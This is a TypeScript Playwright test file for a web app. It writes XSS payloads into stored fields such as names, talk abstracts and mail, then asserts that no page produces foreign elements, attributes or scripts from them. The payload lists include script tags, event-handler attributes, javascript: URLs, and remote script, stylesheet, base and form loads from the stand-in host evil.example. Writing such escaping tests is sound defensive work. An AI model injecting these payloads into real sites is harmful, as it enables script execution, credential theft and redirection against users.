/** The words of strangers stay words (threat 7): no element, no dialog, no request comes of them on any page. */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { noBrowser, openBrowser, openWindow, watchPage } from '../support/browser.ts';
import { openTestWeb, type TestWeb } from '../support/web.ts';
import { tellStory, type WebStory } from '../support/web-story.ts';

const naughty = join(import.meta.dirname, '../../../shared/data/mime/blns.json');

const attacks = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<a href="javascript:alert(1)">Noor</a>',
  '" autofocus onfocus=alert(1) x="',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>Approve</button>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202eevitcejbo\u202c <b>bold</b>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
];

/** What no page of ours has. */
const foreignElements = [
  'img, iframe:not([sandbox]), object, embed, math, base, style, form:not([action^="/"])',
  '[onerror], [onload], [onfocus], [ontoggle], a[href^="javascript"]',
].join(', ');

describe('strangers’ words in a browser', { skip: noBrowser }, () => {
  let web: TestWeb;
  let story: WebStory;
  let browser: Browser;
  before(async () => {
    web = await openTestWeb();
    story = await tellStory(web, 4);
    browser = await openBrowser();
  });
  after(async () => {
    await browser?.close();
    await web?.close();
  });

  async function write(words: string): Promise<void> {
    const { db } = web.store;
    const value = words.replaceAll('\u0000', '');
    const mail = `From: x@y.example\r\nSubject: x\r\nMessage-ID: <a@y.example>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${value}\r\n`;
    await db
      .updateTable('request')
      .set({ name: value, affiliation: value, motivation: value, reason: value, question: value })
      .execute();
    await db
      .updateTable('subscriber')
      .set({ name: value, affiliation: value })
      .where('id', '=', story.subscriberId)
      .execute();
    await db
      .updateTable('inbound')
      .set({ raw: Buffer.from(mail), reason: value, envelope_from: value })
      .execute();
    await db
      .updateTable('talk')
      .set({
        title: value,
        speaker: value,
        affiliation: value,
        abstract: value,
        bio: value,
        place: value,
        watch: value,
      })
      .where('id', '=', story.talks[2]!)
      .execute();
    await db.updateTable('delivery').set({ reply: value }).where('state', '=', 'failed').execute();
  }

  const shown = () => [
    '/',
    `/talks/${story.talks[2]}`,
    `/requests/${web.sign('decision-link', story.linkId)}`,
    `/preferences/${web.sign('preferences', story.subscriberId)}`,
    '/host/requests',
    `/host/requests/${story.requestId}`,
    `/host/messages/${story.messageId}`,
    `/host/subscribers/${story.subscriberId}`,
    '/host/subscribers',
    '/host/calendar',
    '/host/outbox',
    `/host/mailings/${story.doneId}`,
    '/host/templates',
  ];

  it('attacks are read and not run, on every page that shows them', async () => {
    const window = await openWindow(
      browser,
      web,
      { width: 1280, colorScheme: 'light' },
      await web.cookieOf(story.hostId),
    );
    const page = await window.newPage();
    const trouble = watchPage(page, web);
    for (const words of attacks) {
      await write(words);
      for (const path of shown()) {
        await page.goto(web.url + path, { waitUntil: 'domcontentloaded' });
        const foreign = await page.evaluate(`(() => {
          const scripts = [...document.scripts].filter((each) => !each.src && each.type !== 'application/ld+json');
          return [...document.querySelectorAll(${JSON.stringify(foreignElements)}), ...scripts].map((each) => each.outerHTML);
        })()`);
        assert.deepEqual(foreign, [], `${path}: ${words}`);
        assert.deepEqual(trouble, [], `${path}: ${words}`);
      }
    }
    await window.close();
  });

  /** Every element and attribute that stands on these pages. */
  async function piecesOf(page: Page, paths: readonly string[], cookie: string): Promise<Set<string>> {
    const pages = await Promise.all(
      paths.map(async (path) => (await fetch(web.url + path, { headers: { cookie } })).text()),
    );
    const names = (await page.evaluate(`${JSON.stringify(pages)}.flatMap((html) =>
      [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].flatMap((each) =>
        [each.localName, ...each.getAttributeNames().map((name) => each.localName + ' ' + name)]))`)) as string[];
    return new Set(names);
  }

  async function addNothing(strings: readonly string[], paths: readonly string[]): Promise<void> {
    const cookie = await web.cookieOf(story.hostId);
    const window = await openWindow(browser, web, { width: 1280, colorScheme: 'light' });
    const page = await window.newPage();
    await page.goto(`${web.url}/host/sign-in`);
    await write('plain words');
    const known = await piecesOf(page, paths, cookie);
    // Words without a letter, or that look like a quoted answer, are shown in other pieces of ours.
    for (const other of ['', ' ', '> quoted', '- one\n\n- two', 'On 1 May, X wrote:\n> y']) {
      await write(other);
      for (const piece of await piecesOf(page, paths, cookie)) known.add(piece);
    }
    for (const words of strings) {
      await write(words);
      const foreign = [...(await piecesOf(page, paths, cookie))].filter((piece) => !known.has(piece));
      assert.deepEqual(foreign, [], words);
    }
    await window.close();
  }

  it('two hundred ways out of the text make no element and no attribute', async () => {
    const paths = [
      `/requests/${web.sign('decision-link', story.linkId)}`,
      `/preferences/${web.sign('preferences', story.subscriberId)}`,
      `/host/requests/${story.requestId}`,
      `/host/subscribers/${story.subscriberId}`,
    ];
    const ways = waysOut();
    assert.ok(ways.length >= 200, `${ways.length} ways`);
    await addNothing(ways, paths);
  });

  it('the list of naughty strings makes no element', {
    skip: existsSync(naughty) ? false : 'no list of naughty strings here',
  }, async () => {
    const strings = JSON.parse(readFileSync(naughty, 'utf8')) as string[];
    await addNothing(strings, [`/requests/${web.sign('decision-link', story.linkId)}`]);
  });
});

/** Every way to end what the words stand in, before every kind of thing that acts. */
function waysOut(): string[] {
  const ends = [
    '',
    '">',
    "'>",
    '</bdi>',
    '--></p>',
    '</textarea></title></style>',
    '`><',
    '\u2028"/>',
    '&quot;&gt;',
  ];
  const acts = [
    '<script src=//evil.example/x.js></script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><script>alert&#40;1)</script>',
    '<video><source onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<object data=javascript:alert(1)>',
    '<embed src=//evil.example/x.swf>',
    '<iframe src=javascript:alert(1)>',
    '<form action=//evil.example><input type=submit formaction=javascript:alert(1)>',
    '<meta http-equiv=refresh content="0;javascript:alert(1)">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math href=javascript:alert(1)>x</math>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<xmp><plaintext><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '\u003cimg src=x onerror=alert(1)\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    ' onmouseover=alert(1) style=position:fixed x=',
  ];
  return ends.flatMap((end) => acts.map((act) => end + act));
}
